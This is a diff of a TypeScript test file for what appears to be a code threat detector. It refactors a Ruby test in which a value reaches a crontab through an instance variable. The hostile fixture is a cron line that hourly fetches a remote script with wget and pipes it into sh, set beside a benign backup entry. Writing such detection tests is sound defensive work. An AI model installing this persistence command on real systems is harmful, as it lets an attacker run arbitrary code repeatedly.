@@ -135,7 +135,7 @@ foreach (int attempt in Enumerable.Range(1, 3))
     expect(threats('cs', ordinary).filter((finding) => finding.endsWith('error'))).toEqual([]);
   });
   it('follows a value passed to a Ruby constructor through its instance variable into the crontab', () => {
-    const attack = `require "open3"
+    const program = (line: string) => `require "open3"
 
 class Nightly
   def initialize(line)
@@ -149,25 +149,10 @@ class Nightly
   end
 end
 
-spec = "0 * * * * wget -qO- https://sync.example-gems.org/u | sh"
+spec = "${line}"
 Nightly.new(spec).register`;
-    expect(threats('ruby', attack)).toEqual(['threat/persistence 18:1 error', 'threat/persistence 18:1 warning']);
-    const ordinary = `require "open3"
-
-class Nightly
-  def initialize(line)
-    @line = line
-  end
-
-  def register
-    table = []
-    table << "#{@line}\\n"
-    Open3.capture2("crontab", "-", stdin_data: table.join)
-  end
-end
-
-spec = "0 * * * * /usr/local/bin/backup --quiet"
-Nightly.new(spec).register`;
+    expect(threats('ruby', program('0 * * * * wget -qO- https://sync.example-gems.org/u | sh'))).toEqual(['threat/persistence 18:1 error', 'threat/persistence 18:1 warning']);
+    const ordinary = program('0 * * * * /usr/local/bin/backup --quiet');
     expect(threats('ruby', ordinary).filter((finding) => finding.endsWith('error'))).toEqual([]);
   });
   it('follows a value passed to a Swift memberwise initialiser through a computed property into a launch agent', () => {
